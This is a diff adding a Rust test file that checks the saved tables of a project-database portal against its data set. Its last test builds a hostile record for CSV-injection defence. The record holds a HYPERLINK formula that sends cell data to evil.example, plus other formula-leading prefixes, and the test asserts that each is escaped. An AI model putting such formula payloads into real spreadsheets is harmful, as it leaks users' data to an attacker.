@@ -1,0 +1,418 @@
+//! What a list is saved as agrees with the data set, row by row, and no cell of it can run as a formula.
+
+// A test that meets what it did not expect must stop.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+// Compiled here by itself: it needs neither the framework nor a browser.
+#[path = "../src/components/save_menu/tables.rs"]
+mod tables;
+
+// What `tables.rs` calls `crate::…`.
+use atlas::{domain, words};
+
+use domain::budget::Covers;
+use domain::catalogue::Catalogue;
+use domain::dataset::Dataset;
+use domain::facet::Facet;
+use domain::party::Role;
+use domain::query::{Page, ProjectQuery};
+use domain::read::{FILES, File, read};
+use domain::route::Route;
+use domain::slices::Slices;
+use domain::slug::Slug;
+use serde_json::Value;
+use sheet::Sheet;
+use sheet::cell::{Cell, iso};
+use sheet::csv::runs_as_formula;
+use sheet::kind::Kind;
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use tables::Asked;
+
+const SITE: &str = "https://example.org/portal";
+
+const QUESTIONS: [&str; 9] = [
+    "",
+    "page=3&view=table",
+    "country=kazakhstan&sort=largest",
+    "q=court&country=tajikistan&country=uzbekistan",
+    "status=completed&not-donor=european-union&sort=title-back&page=2",
+    "donor=european-union&as-of=2015-06-01&sort=oldest",
+    "currency=EUR&min=1&sort=smallest",
+    "beneficiary=in-words&page=all",
+    "q=nothing-has-these-words-zzz",
+];
+
+/// A data set with all that a table is made of.
+struct Whole {
+    dataset: Dataset,
+    catalogue: Catalogue,
+    records: BTreeMap<String, Value>,
+    details: Vec<Value>,
+}
+
+impl Whole {
+    fn bundled() -> Self {
+        Self::changed(|_| ())
+    }
+
+    /// The bundled data set with its projects changed.
+    fn changed(change: impl Fn(&mut Vec<Value>)) -> Self {
+        let texts = FILES.map(|name| {
+            let bytes = fs::read(format!("public/data/{name}")).unwrap();
+            if name != "projects.json" {
+                return (name, bytes);
+            }
+            let mut list: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
+            change(&mut list);
+            (name, serde_json::to_vec(&list).unwrap())
+        });
+        let files = texts.each_ref().map(|(name, bytes)| File { name, bytes });
+        let dataset = read(&files).dataset.unwrap();
+        let list: Vec<Value> =
+            serde_json::from_slice(&texts.iter().find(|it| it.0 == "projects.json").unwrap().1).unwrap();
+        let records = list.into_iter().map(|record| (record["id"].as_str().unwrap().to_owned(), record)).collect();
+        let details = serde_json::from_str(&Slices::new(&dataset, &files, &[]).details()).unwrap();
+        let catalogue = Catalogue::of(&dataset);
+        Self { dataset, catalogue, records, details }
+    }
+
+    fn projects(&mut self, query: &ProjectQuery) -> Sheet {
+        let listed: Vec<_> = self.catalogue.ordered(query).into_iter().map(|row| self.catalogue.listed(row)).collect();
+        let found = (listed.len(), self.catalogue.len());
+        let names = self.catalogue.names();
+        let asked = Asked { query, names: &names, dataset: &self.dataset, found, site: SITE };
+        asked.projects(&listed, &self.details)
+    }
+
+    fn bodies(&mut self, query: &ProjectQuery, role: Role) -> Sheet {
+        let shares = self.catalogue.bodies(query, role);
+        let found = (self.catalogue.total(query), self.catalogue.len());
+        let names = self.catalogue.names();
+        let asked = Asked { query, names: &names, dataset: &self.dataset, found, site: SITE };
+        asked.bodies(role, &shares)
+    }
+
+    /// The ids that the pages of the list show, one page after the other.
+    fn shown(&mut self, query: &ProjectQuery) -> Vec<String> {
+        let mut ids = Vec::new();
+        for number in 1.. {
+            let results = self.catalogue.run(&query.at(Page::Number(number)));
+            ids.extend(results.rows.iter().map(|row| self.catalogue.listed(*row).id.to_string()));
+            if number >= results.pages {
+                return ids;
+            }
+        }
+        unreachable!("a list ends")
+    }
+}
+
+/// A cell as text.
+fn text(cell: &Cell) -> String {
+    match cell {
+        Cell::Empty => String::new(),
+        Cell::Day(day) => iso(*day),
+        Cell::Text(text) | Cell::Number(text) | Cell::Link(text) => text.clone(),
+    }
+}
+
+/// A row by the keys of its columns.
+fn rows(sheet: &Sheet) -> Vec<BTreeMap<&str, String>> {
+    let keys: BTreeSet<&str> = sheet.columns.iter().map(|column| column.key.as_str()).collect();
+    assert_eq!(keys.len(), sheet.columns.len(), "a key twice");
+    let row = |row: &Vec<Cell>| {
+        assert_eq!(row.len(), sheet.columns.len());
+        sheet.columns.iter().zip(row).map(|(column, cell)| (column.key.as_str(), text(cell))).collect()
+    };
+    sheet.rows.iter().map(row).collect()
+}
+
+/// The strings of a list of the data, joined as a cell joins them.
+fn strings<'v>(list: &'v Value, of: impl Fn(&'v Value) -> Option<&'v str>) -> String {
+    list.as_array().into_iter().flatten().filter_map(of).collect::<Vec<_>>().join("; ")
+}
+
+fn string(value: &Value) -> String {
+    value.as_str().unwrap_or_default().to_owned()
+}
+
+/// The parts of a cell, sorted.
+fn parts(cell: &str) -> BTreeSet<String> {
+    cell.split("; ").filter(|part| !part.is_empty()).map(str::to_owned).collect()
+}
+
+#[test]
+fn the_table_of_projects_is_the_list_and_agrees_with_the_data() {
+    let mut whole = Whole::bundled();
+    let mut seen = 0;
+    for asked in QUESTIONS {
+        let query = ProjectQuery::parse(asked);
+        let sheet = whole.projects(&query);
+        let table = rows(&sheet);
+        assert_eq!(table.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), whole.shown(&query), "{asked}");
+        seen += table.len();
+        for row in &table {
+            let record = &whole.records[&row["id"]];
+            let project = &whole.dataset.projects[&Slug::new(&row["id"]).unwrap()];
+            let name = &row["id"];
+            for (key, field) in
+                [("title", "title"), ("objective", "objective"), ("results", "results"), ("note", "note")]
+            {
+                assert_eq!(row[key], string(&record[field]), "{name}: {key}");
+            }
+            assert_eq!(row["target_groups"], string(&record["target_groups"]), "{name}");
+            assert_eq!(row["kind"], record["kind"].as_str().unwrap_or("project"), "{name}");
+            let ids = |key: &str| parts(&strings(&record[key], Value::as_str));
+            assert_eq!(parts(&row["country_ids"]), ids("countries"), "{name}");
+            assert_eq!(parts(&row["type_ids"]), ids("types"), "{name}");
+            let countries: Vec<_> = project.countries.iter().map(|id| whole.dataset.country(id).unwrap()).collect();
+            assert_eq!(parts(&row["country_codes"]), countries.iter().map(|it| it.code.clone()).collect(), "{name}");
+            assert_eq!(parts(&row["countries"]), countries.iter().map(|it| it.name.clone()).collect(), "{name}");
+            // Labels, ids and codes of one cell stand in one order.
+            let first = row["country_ids"].split("; ").next().and_then(Slug::new);
+            if let Some(first) = first.and_then(|id| whole.dataset.country(&id)) {
+                assert!(row["countries"].starts_with(&first.name) && row["country_codes"].starts_with(&first.code));
+            }
+            let edtf = string(&record["period"]["edtf"]);
+            let (start, end) = edtf.split_once('/').unwrap_or((&edtf, &edtf));
+            assert_eq!((row["start"].as_str(), row["end"].as_str()), (start, end), "{name}");
+            assert!(row["first_day"].starts_with(start.trim_end_matches('~')), "{name}: {}", row["first_day"]);
+            assert_eq!(row["first_day"].len(), if start.is_empty() { 0 } else { 10 }, "{name}");
+            let end = if end == ".." { "" } else { end.trim_end_matches('~') };
+            assert!(row["last_day"].starts_with(end), "{name}: {}", row["last_day"]);
+            assert_eq!(row["last_day"].len(), if end.is_empty() { 0 } else { 10 }, "{name}");
+            for (key, field) in [
+                ("period_as_written", "period"),
+                ("budget_as_written", "budget"),
+                ("stated_status_as_written", "status"),
+            ] {
+                assert_eq!(row[key], string(&record[field]["as_written"]), "{name}: {key}");
+            }
+            let day = query.as_of.unwrap_or(whole.dataset.meta.as_of);
+            let status = project.standing(day).status().map_or("", |it| it.id());
+            assert_eq!(row["status_id"], status, "{name}");
+            assert_eq!(row["status"].is_empty(), status.is_empty(), "{name}");
+            assert_eq!(row["stated_status_id"], string(&record["status"]["value"]), "{name}");
+            assert_eq!(row["as_of"], iso(day));
+            for (key, field, facet) in [
+                ("donor_ids", "donors", Facet::Donor),
+                ("implementer_ids", "implementers", Facet::Implementer),
+                ("beneficiary_ids", "beneficiaries", Facet::Beneficiary),
+            ] {
+                let as_written = row[format!("{field}_as_written").as_str()].clone();
+                assert_eq!(as_written, strings(&record[field], |it| it["as_written"].as_str()), "{name}: {field}");
+                let values = facet.values_of(&whole.dataset, project).into_iter().map(|it| it.to_string());
+                let values: BTreeSet<String> = values.filter(|it| it != Facet::NOT_STATED).collect();
+                assert_eq!(parts(&row[key]), values, "{name}: {key}");
+                assert_eq!(row[field].is_empty(), values.is_empty(), "{name}: {field}");
+            }
+            let budget = &record["budget"];
+            let sum = if budget["amount"].is_null() { String::new() } else { budget["amount"].to_string() };
+            assert_eq!(row["budget_amount"], sum, "{name}");
+            assert_eq!(row["budget_currency"], string(&budget["currency"]), "{name}");
+            if !sum.is_empty() {
+                assert_eq!(row["budget_covers"], budget["covers"].as_str().unwrap_or("unknown"), "{name}");
+                assert_eq!(row["budget_precision"], budget["precision"].as_str().unwrap_or("exact"), "{name}");
+                assert_eq!(row["budget_indicative"] == "yes", budget["indicative"] == true, "{name}");
+            }
+            assert_eq!(row["sources"], strings(&record["sources"], |it| it["url"].as_str()), "{name}");
+            let seen = record["sources"].as_array().unwrap().iter().map(|it| string(&it["seen"])).max();
+            assert_eq!(Some(&row["last_checked"]), seen.as_ref(), "{name}");
+            assert_eq!(
+                row["permalink"],
+                format!("{SITE}{}", Route::Project(project.id.clone(), ProjectQuery::default()).path())
+            );
+            assert_eq!(row["data_version"], whole.dataset.meta.data_version);
+        }
+    }
+    assert!(seen > 2 * whole.dataset.projects.len(), "the questions find too little: {seen}");
+}
+
+#[test]
+fn only_ticked_projects_are_saved_when_only_these_are_shown() {
+    let mut whole = Whole::bundled();
+    let ids: Vec<String> = whole.dataset.projects.keys().take(3).map(Slug::to_string).collect();
+    let picks = format!("pick={}&pick={}&pick={}", ids[2], ids[0], ids[1]);
+    let only = ProjectQuery::parse(&format!("{picks}&picked=yes&country=kazakhstan"));
+    let table = whole.projects(&only);
+    let found: BTreeSet<String> = rows(&table).iter().map(|row| row["id"].clone()).collect();
+    assert_eq!(found, ids.iter().cloned().collect());
+    assert_eq!(rows(&table).iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), whole.shown(&only));
+    let all = whole.projects(&ProjectQuery::parse(&picks));
+    assert_eq!(all.rows.len(), whole.dataset.projects.len());
+}
+
+#[test]
+fn sums_keep_their_digits() {
+    let mut whole = Whole::changed(|projects| {
+        projects[0]["budget"] = serde_json::from_str(
+            r#"{"as_written": "EUR 1,666,413.50", "amount": 1666413.50, "currency": "EUR", "covers": "total"}"#,
+        )
+        .unwrap();
+        projects[1]["budget"] = serde_json::from_str(
+            r#"{"as_written": "USD 20,000,000,000.07", "amount": 20000000000.07, "currency": "USD", "covers": "total"}"#,
+        )
+        .unwrap();
+        projects[2]["budget"] = serde_json::from_str(
+            r#"{"as_written": "USD 5.00", "amount": 5.00, "currency": "USD", "covers": "group", "indicative": true}"#,
+        )
+        .unwrap();
+    });
+    let ids: Vec<String> = {
+        let bytes = fs::read("public/data/projects.json").unwrap();
+        let list: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
+        list.iter().take(3).map(|it| string(&it["id"])).collect()
+    };
+    let sheet = whole.projects(&ProjectQuery::default());
+    let table = rows(&sheet);
+    let row = |at: usize| table.iter().find(|row| row["id"] == ids[at]).unwrap();
+    assert_eq!(row(0)["budget_amount"], "1666413.50");
+    assert_eq!(row(1)["budget_amount"], "20000000000.07");
+    assert_eq!((row(2)["budget_amount"].as_str(), row(2)["budget_indicative"].as_str()), ("5", "yes"));
+    let column = sheet.columns.iter().position(|column| column.key == "budget_amount").unwrap();
+    assert!(sheet.rows.iter().all(|row| matches!(row[column], Cell::Number(_) | Cell::Empty)));
+}
+
+#[test]
+fn the_tables_of_bodies_agree_with_the_data() {
+    let mut whole = Whole::bundled();
+    for asked in QUESTIONS {
+        let query = ProjectQuery::parse(asked);
+        let list: Vec<_> =
+            whole.shown(&query).iter().map(|id| whole.dataset.projects[&Slug::new(id).unwrap()].clone()).collect();
+        for role in Role::ALL {
+            // For each body its projects, and per currency the sum and the number of budgets of their own.
+            let mut expected: BTreeMap<String, (usize, BTreeMap<String, (u64, usize)>)> = BTreeMap::new();
+            for project in &list {
+                for value in Facet::of_role(role).values_of(&whole.dataset, project) {
+                    let body = expected.entry(value.to_string()).or_default();
+                    body.0 += 1;
+                    let own = |it: Covers| !matches!(it, Covers::Group | Covers::PerGrant | Covers::Programme);
+                    let budget = project.budget.as_ref().filter(|budget| own(budget.covers));
+                    if let Some(money) = budget.and_then(|it| it.money) {
+                        let sum = body.1.entry(money.currency.code().to_lowercase()).or_default();
+                        sum.0 += money.hundredths;
+                        sum.1 += 1;
+                    }
+                }
+            }
+            let sheet = whole.bodies(&query, role);
+            let table = rows(&sheet);
+            assert_eq!(table.len(), expected.len(), "{asked} {role:?}");
+            let mut before = usize::MAX;
+            for row in &table {
+                let (projects, sums) = &expected[&row["id"]];
+                assert_eq!(row["projects"], projects.to_string(), "{asked} {}", row["id"]);
+                assert!(*projects <= before, "those with most projects first");
+                before = *projects;
+                let special = [Facet::NOT_STATED, Facet::IN_WORDS].contains(&row["id"].as_str());
+                let page = Route::Organisation(Slug::new(&row["id"]).unwrap()).href(SITE);
+                assert_eq!(row["permalink"], if special { String::new() } else { page });
+                if !special {
+                    assert_eq!(row["name"], whole.dataset.organisations[&Slug::new(&row["id"]).unwrap()].name);
+                }
+                for key in sheet.columns.iter().filter_map(|column| column.key.strip_prefix("sum_")) {
+                    let (sum, over) = sums.get(key).copied().unwrap_or_default();
+                    let written = &row[format!("sum_{key}").as_str()];
+                    let (units, cents) = written.split_once('.').unwrap_or((written, "0"));
+                    let read = units.parse::<u64>().unwrap_or(0) * 100 + cents.parse::<u64>().unwrap();
+                    assert_eq!((read, written.is_empty()), (sum, over == 0), "{asked} {} {key}", row["id"]);
+                    assert_eq!(row[format!("projects_in_sum_{key}").as_str()], over.to_string());
+                }
+                let written = sheet.columns.iter().filter(|column| column.key.starts_with("sum_")).count();
+                assert!(written >= sums.len());
+            }
+            assert!(sheet.about.iter().any(|(_, note)| note.contains("not of its own part")));
+        }
+    }
+}
+
+#[test]
+fn a_file_tells_what_it_is() {
+    let mut whole = Whole::bundled();
+    let query = ProjectQuery::parse("country=kazakhstan&as-of=2016-01-01&sort=title&page=2&view=table");
+    let sheet = whole.projects(&query);
+    let about: BTreeMap<_, _> = sheet.about.iter().cloned().collect();
+    assert_eq!(about.len(), sheet.about.len(), "a name twice");
+    assert_eq!(about["List"], "Projects in Kazakhstan");
+    assert_eq!(about["As of"], "1 January 2016");
+    assert_eq!(
+        about["Address of the list"],
+        format!("{SITE}{}", Route::Projects(query.at(Page::default())).href("")),
+        "of its beginning, because the file holds all pages"
+    );
+    assert_eq!(about["Licence of the data"], whole.dataset.meta.licence);
+    assert_eq!(about["Address of the licence"], whole.dataset.meta.licence_url);
+    assert_eq!(about["Publisher"], whole.dataset.meta.publisher);
+    assert!(about["Number of projects"].starts_with(&format!("{} of ", sheet.rows.len())));
+    let names = whole.catalogue.names();
+    let asked = Asked { query: &query, names: &names, dataset: &whole.dataset, found: (1, 2), site: SITE };
+    let version = Slug::from_name(&whole.dataset.meta.data_version).unwrap();
+    assert_eq!(asked.file_name(None), format!("rule-of-law-atlas-projects-{version}"));
+    assert_eq!(asked.file_name(Some(Role::Beneficiary)), format!("rule-of-law-atlas-institutions-{version}"));
+}
+
+/// The records of a CSV file.
+fn parse(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(bytes).unwrap().strip_prefix('\u{feff}').unwrap();
+    let (mut records, mut record, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => record.push(std::mem::take(&mut field)),
+            '\r' if !quoted && chars.peek() == Some(&'\n') => {
+                chars.next();
+                record.push(std::mem::take(&mut field));
+                records.push(std::mem::take(&mut record));
+            }
+            other => field.push(other),
+        }
+    }
+    assert!(!quoted && field.is_empty() && record.is_empty(), "the file ends in the middle");
+    records
+}
+
+#[test]
+fn a_hostile_record_is_text_in_every_kind_of_file() {
+    const BAD: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")\r\n@SUM(1),\u{202e}</script>";
+    let mut whole = Whole::changed(|projects| {
+        let id = projects[0]["id"].clone();
+        projects[0] = serde_json::json!({
+            "id": id, "title": BAD, "countries": ["kazakhstan"], "types": [],
+            "period": {"edtf": "2014/..", "as_written": BAD},
+            "status": {"value": "ongoing", "as_written": format!("+{BAD}")},
+            "donors": [{"as_written": BAD}, {"as_written": "@b"}],
+            "implementers": [{"as_written": format!("\t{BAD}")}],
+            "beneficiaries": [{"as_written": "-1+2"}],
+            "budget": {"as_written": BAD, "amount": 5, "currency": "EUR", "covers": "total"},
+            "objective": BAD, "target_groups": BAD, "results": format!("-{BAD}"), "note": format!("\u{feff}{BAD}"),
+            "sources": [{"url": "https://example.org/=1", "publisher": BAD, "seen": "2020-01-01"}],
+        });
+    });
+    let projects = whole.projects(&ProjectQuery::default());
+    let mut sheets = vec![projects];
+    sheets.extend(Role::ALL.map(|role| whole.bodies(&ProjectQuery::default(), role)));
+    for sheet in &sheets {
+        let records = parse(&sheet::write::write(Kind::Csv, sheet).unwrap());
+        assert_eq!(records.len(), sheet.rows.len() + 1);
+        for (record, row) in records.iter().skip(1).zip(&sheet.rows) {
+            assert_eq!(record.len(), sheet.columns.len());
+            for (field, cell) in record.iter().zip(row) {
+                assert!(!runs_as_formula(field), "{field:?}");
+                let text = text(cell);
+                assert_eq!(*field, if runs_as_formula(&text) { format!("'{text}") } else { text });
+            }
+        }
+        // The other kinds take it too, and tell their cells apart by themselves.
+        assert!(sheet::write::write(Kind::Xlsx, sheet).unwrap().starts_with(b"PK"));
+        let json: Value = serde_json::from_slice(&sheet::write::write(Kind::Json, sheet).unwrap()).unwrap();
+        assert_eq!(json["rows"].as_array().unwrap().len(), sheet.rows.len());
+    }
+    let guarded = rows(&sheets[0]).iter().filter(|row| row["title"] == BAD).count();
+    assert_eq!(guarded, 1, "the record is there");
+}
